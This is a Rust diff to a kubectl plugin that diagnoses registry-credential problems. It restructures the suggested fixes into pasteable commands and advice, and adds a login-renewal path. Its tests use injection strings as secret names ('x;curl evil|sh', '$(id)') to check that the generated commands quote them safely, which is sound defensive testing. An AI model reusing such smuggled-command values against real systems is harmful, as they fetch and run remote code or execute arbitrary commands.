@@ -401,6 +401,89 @@ pub(crate) fn is_auth_failure(message: &str, image: &str) -> bool {
         .any(|needle| lower.contains(needle))
 }
 
+/// What to do about a verdict: a `command` that works when pasted as it is, and prose
+/// `advice` around it (what to do first or after, or all there is when no command can do
+/// it). A placeholder such as USER never appears in a command.
+#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub(crate) struct Fix {
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub(crate) command: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub(crate) advice: Option<String>,
+}
+
+impl Fix {
+    fn command(command: String) -> Self {
+        Self {
+            command: Some(command),
+            advice: None,
+        }
+    }
+
+    fn advice(advice: impl Into<String>) -> Self {
+        Self {
+            command: None,
+            advice: Some(advice.into()),
+        }
+    }
+
+    fn both(advice: impl Into<String>, command: String) -> Self {
+        Self {
+            command: Some(command),
+            advice: Some(advice.into()),
+        }
+    }
+
+    /// More advice, after what is there.
+    pub(crate) fn then(mut self, more: &str) -> Self {
+        self.advice = Some(match self.advice {
+            Some(advice) => format!("{advice}; {more}"),
+            None => more.to_string(),
+        });
+        self
+    }
+}
+
+/// Where a copy's login for one registry came from, which decides how to renew it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) enum LoginSource {
+    /// Ours, from a source `sync` reads again (docker, podman, the keychain, a Secret).
+    Rereadable,
+    /// Ours, from `--username`: only given again can it change.
+    Explicit { username: String },
+    /// Not ours, or ours without a record of its source.
+    Unrecorded,
+}
+
+/// The fix for a login that expired or that the registry refused, in a Secret of ours:
+/// `sync NAME`, which keeps the copies' recorded scope (never `-n NS`, which would narrow it),
+/// with the new token given again when it was explicit. `None`: keep [`fix`]'s.
+pub(crate) fn renewal_fix(verdict: &Verdict, source: &LoginSource) -> Option<Fix> {
+    let (Verdict::Expired { secret, key, .. }
+    | Verdict::Expiring { secret, key, .. }
+    | Verdict::BadCredentials { secret, key, .. }) = verdict
+    else {
+        return None;
+    };
+    let secret = shell_quote(secret);
+    match source {
+        LoginSource::Rereadable => Some(Fix::both(
+            "first log in again (docker login, podman login, kubectl regcred login or the cloud's CLI)",
+            format!("kubectl regcred sync {secret}"),
+        )),
+        LoginSource::Explicit { username } => Some(Fix::both(
+            "give the new password or token on stdin",
+            format!(
+                "kubectl regcred sync {secret} --server {} --username {} --password-stdin",
+                shell_quote(key),
+                shell_quote(username)
+            ),
+        )),
+        LoginSource::Unrecorded => None,
+    }
+}
+
 /// `fix` with the connection flags of the run (`--context 'c2'`, `--kubeconfig …`), after
 /// each `kubectl regcred` and each other `kubectl` in it, so that a pasted fix acts on the
 /// cluster that was checked, not on the current context.
@@ -439,8 +522,8 @@ pub(crate) fn fix_changes_the_target(verdict: &Verdict) -> bool {
     )
 }
 
-/// The one-line fix for a verdict; `target` is `kind/name` as kubectl spells it.
-pub(crate) fn fix(verdict: &Verdict, image: &str, target: &str, namespace: &str) -> Option<String> {
+/// The fix for a verdict; `target` is `kind/name` as kubectl spells it.
+pub(crate) fn fix(verdict: &Verdict, image: &str, target: &str, namespace: &str) -> Option<Fix> {
     // Every value comes from the cluster: quoted, so a pasted fix runs only what it says.
     let host = ImageRef::parse(image)
         .map(|i| i.domain)
@@ -448,58 +531,64 @@ pub(crate) fn fix(verdict: &Verdict, image: &str, target: &str, namespace: &str)
     let server = shell_quote(&host);
     let (target, namespace) = (shell_quote(target), shell_quote(namespace));
     let first = |secrets: &[String]| shell_quote(&secrets[0]).into_owned();
+    let relogin =
+        format!("first log in again (docker login {server}, or kubectl regcred login {server})");
     Some(match verdict {
         Verdict::Ok { .. } => return None,
-        Verdict::Anonymous => format!(
-            "if the image is private: kubectl regcred create regcred --server {server} -n {namespace} --attach {target}"
-        ),
-        Verdict::NoCredential { .. } => {
+        Verdict::Anonymous => Fix::both(
+            "only if the image is private",
             format!(
                 "kubectl regcred create regcred --server {server} -n {namespace} --attach {target}"
-            )
-        }
-        Verdict::SecretMissing { secrets } => {
+            ),
+        ),
+        Verdict::NoCredential { .. } => Fix::command(format!(
+            "kubectl regcred create regcred --server {server} -n {namespace} --attach {target}"
+        )),
+        Verdict::SecretMissing { secrets } => Fix::command(format!(
+            "kubectl regcred create {} --server {server} -n {namespace}",
+            first(secrets)
+        )),
+        Verdict::SecretMalformed { secret, .. } => Fix::both(
+            "rewrite it well-formed",
             format!(
-                "kubectl regcred create {} --server {server} -n {namespace}",
-                first(secrets)
-            )
-        }
-        Verdict::SecretMalformed { secret, .. } => format!(
-            "rewrite it well-formed: kubectl regcred create {} --server {server} -n {namespace} --force",
-            shell_quote(secret)
+                "kubectl regcred create {} --server {server} -n {namespace} --force",
+                shell_quote(secret)
+            ),
         ),
-        Verdict::IdentityTokenOnly { secret, .. } => format!(
-            "use an access token or robot account: kubectl regcred create {} --server {server} --username USER --password-stdin -n {namespace} --force",
+        Verdict::IdentityTokenOnly { secret, .. } => Fix::advice(format!(
+            "store an access token or a robot account's login instead, for example with kubectl regcred create {} --server {server} --username YOUR-USER --password-stdin -n {namespace} --force",
             shell_quote(secret)
-        ),
+        )),
         Verdict::SaSecretsIgnored { secrets } | Verdict::NotAttached { secrets } => {
-            format!(
+            Fix::command(format!(
                 "kubectl regcred attach {} {target} -n {namespace}",
                 first(secrets)
-            )
+            ))
         }
-        Verdict::PodPredatesSa { .. } if target.starts_with("pod/") => {
+        Verdict::PodPredatesSa { .. } if target.starts_with("pod/") => Fix::advice(format!(
+            "recreate the pod from its manifest (kubectl delete {target} -n {namespace}, then create it again): a Pod takes its ServiceAccount's Secrets only when it is created"
+        )),
+        Verdict::PodPredatesSa { .. } => {
+            Fix::command(format!("kubectl rollout restart {target} -n {namespace}"))
+        }
+        Verdict::InvalidImage { .. } => Fix::advice("fix the image reference in the pod spec"),
+        // A Secret of ours is renewed with `sync` (renewal_fix); this one is not ours.
+        Verdict::Expired { secret, .. }
+        | Verdict::Expiring { secret, .. }
+        | Verdict::BadCredentials { secret, .. } => Fix::both(
+            relogin,
             format!(
-                "recreate the pod from its manifest (kubectl delete {target} -n {namespace}, then create it again): a Pod takes its ServiceAccount's Secrets only when it is created"
-            )
-        }
-        Verdict::PodPredatesSa { .. } => format!("kubectl rollout restart {target} -n {namespace}"),
-        Verdict::InvalidImage { .. } => "fix the image reference in the pod spec".into(),
-        Verdict::Expired { secret, .. } | Verdict::Expiring { secret, .. } => format!(
-            "kubectl regcred sync {} (after logging in again, if the source holds the same token)",
+                "kubectl regcred create {} --server {server} -n {namespace} --force",
+                shell_quote(secret)
+            ),
+        ),
+        Verdict::NoPullAccess { secret, .. } => Fix::advice(format!(
+            "give the account pull rights on the repository, or store one that has them, for example with kubectl regcred create {} --server {server} --username YOUR-USER --password-stdin -n {namespace} --force",
             shell_quote(secret)
+        )),
+        Verdict::NotFound { .. } => Fix::advice(
+            "fix the image reference: the login works, but the registry has no such image",
         ),
-        Verdict::BadCredentials { secret, .. } => format!(
-            "log in again (docker login {server}, or kubectl regcred login {server}), then kubectl regcred sync {secret} -n {namespace} if kubectl-regcred manages it, else kubectl regcred create {secret} --server {server} -n {namespace} --force",
-            secret = shell_quote(secret)
-        ),
-        Verdict::NoPullAccess { secret, .. } => format!(
-            "give the account pull rights on the repository, or store one that has them: kubectl regcred create {} --server {server} --username USER --password-stdin -n {namespace} --force",
-            shell_quote(secret)
-        ),
-        Verdict::NotFound { .. } => {
-            "fix the image reference: the login works, but the registry has no such image".into()
-        }
     })
 }
 
@@ -535,7 +624,7 @@ impl fmt::Display for SecretStatus {
 pub(crate) struct SecretHealth {
     pub(crate) status: SecretStatus,
     pub(crate) detail: String,
-    pub(crate) fix: Option<String>,
+    pub(crate) fix: Option<Fix>,
 }
 
 /// What the kubelet makes of the Secret `name` (in `state`) that `account` lists.
@@ -551,7 +640,7 @@ pub(crate) fn secret_health(
         shell_quote(&format!("sa/{account_name}")).into_owned(),
         shell_quote(ns),
     );
-    let health = |status, detail: String, fix: Option<String>| SecretHealth {
+    let health = |status, detail: String, fix: Option<Fix>| SecretHealth {
         status,
         detail,
         fix,
@@ -560,21 +649,23 @@ pub(crate) fn secret_health(
         None => health(
             SecretStatus::SecretMissing,
             "it does not exist".to_string(),
-            Some(format!("kubectl regcred create {name} -n {namespace}")),
+            Some(Fix::command(format!(
+                "kubectl regcred create {name} -n {namespace}"
+            ))),
         ),
         Some(SecretState::Ignored(why)) => health(
             SecretStatus::SecretMissing,
             format!("the kubelet ignores it: {why}"),
-            Some(format!(
+            Some(Fix::command(format!(
                 "kubectl regcred detach {name} {account} -n {namespace}"
-            )),
+            ))),
         ),
         Some(SecretState::Malformed(why)) => health(
             SecretStatus::SecretMalformed,
             format!("every pull of pods using it fails: {why}"),
-            Some(format!(
-                "kubectl regcred create {name} --server SERVER -n {namespace} --force"
-            )),
+            Some(Fix::advice(format!(
+                "rewrite it well-formed, for example with kubectl regcred create {name} --server YOUR-REGISTRY -n {namespace} --force"
+            ))),
         ),
         Some(SecretState::Keys(keys))
             if keys
@@ -584,9 +675,9 @@ pub(crate) fn secret_health(
             health(
                 SecretStatus::IdentityTokenOnly,
                 "it holds no username or password the kubelet can use".to_string(),
-                Some(format!(
-                    "kubectl regcred create {name} --server SERVER --username USER --password-stdin -n {namespace} --force"
-                )),
+                Some(Fix::advice(format!(
+                    "store an access token or a robot account's login instead, for example with kubectl regcred create {name} --server YOUR-REGISTRY --username YOUR-USER --password-stdin -n {namespace} --force"
+                ))),
             )
         }
         Some(SecretState::Keys(keys)) => health(
@@ -698,9 +789,34 @@ mod tests {
         let expired = judge(at(-10));
         assert_eq!(expired.label(), "EXPIRED");
         assert!(expired.is_problem());
+        // Not ours: stored anew. Ours: renewed with sync, keeping its recorded scope.
         assert_eq!(
-            fix(&expired, "quay.io/team/app:1", "deployment/web", "ns").unwrap(),
-            "kubectl regcred sync ecr (after logging in again, if the source holds the same token)"
+            fix(&expired, "quay.io/team/app:1", "deployment/web", "ns")
+                .unwrap()
+                .command
+                .unwrap(),
+            "kubectl regcred create ecr --server quay.io -n ns --force"
+        );
+        assert_eq!(
+            renewal_fix(&expired, &LoginSource::Rereadable)
+                .unwrap()
+                .command
+                .unwrap(),
+            "kubectl regcred sync ecr"
+        );
+        let explicit = LoginSource::Explicit {
+            username: "AWS".into(),
+        };
+        let renewal = renewal_fix(&expired, &explicit).unwrap().command.unwrap();
+        assert!(
+            renewal.ends_with(
+                "kubectl regcred sync ecr --server quay.io --username AWS --password-stdin"
+            ),
+            "{renewal}"
+        );
+        assert!(
+            !renewal.contains(" -n "),
+            "a fix never narrows the recorded scope"
         );
         let expiring = judge(at(1800));
         assert_eq!(expiring.label(), "EXPIRING");
@@ -792,19 +908,58 @@ mod tests {
             secrets: vec!["x;curl evil|sh".into()],
         };
         assert_eq!(
-            fix(&verdict, "quay.io/a/b:1", "deployment/web", "team-a").unwrap(),
+            fix(&verdict, "quay.io/a/b:1", "deployment/web", "team-a")
+                .unwrap()
+                .command
+                .unwrap(),
             "kubectl regcred create 'x;curl evil|sh' --server quay.io -n team-a"
         );
         let health = secret_health("$(id)", None, "default", "team-a");
         assert_eq!(
-            health.fix.unwrap(),
+            health.fix.unwrap().command.unwrap(),
             "kubectl regcred create '$(id)' -n team-a"
         );
     }
 
+    /// A command never holds a placeholder: what cannot be pasted is advice.
+    #[test]
+    fn no_command_holds_a_placeholder() {
+        let verdicts = [
+            Verdict::IdentityTokenOnly {
+                secret: "s".into(),
+                key: "quay.io".into(),
+            },
+            Verdict::NoPullAccess {
+                secret: "s".into(),
+                key: "quay.io".into(),
+                reason: String::new(),
+            },
+            Verdict::InvalidImage {
+                reason: String::new(),
+            },
+        ];
+        for verdict in &verdicts {
+            let fix = fix(verdict, "quay.io/a/b:1", "deployment/web", "team-a").unwrap();
+            assert_eq!(fix.command, None, "{verdict:?}");
+        }
+        for state in [None, Some(SecretState::Malformed("x".into()))] {
+            let fix = secret_health("s", state.as_ref(), "default", "ns")
+                .fix
+                .unwrap();
+            for word in ["SERVER", "USER", "REGISTRY"] {
+                assert!(!fix.command.clone().unwrap_or_default().contains(word));
+            }
+        }
+    }
+
     #[test]
     fn fixes_name_the_command() {
-        let fix_for = |v: &Verdict| fix(v, "quay.io/a/b:1", "deployment/web", "team-a").unwrap();
+        let fix_for = |v: &Verdict| {
+            fix(v, "quay.io/a/b:1", "deployment/web", "team-a")
+                .unwrap()
+                .command
+                .unwrap()
+        };
         assert_eq!(
             fix_for(&Verdict::NotAttached {
                 secrets: vec!["quay".into()]
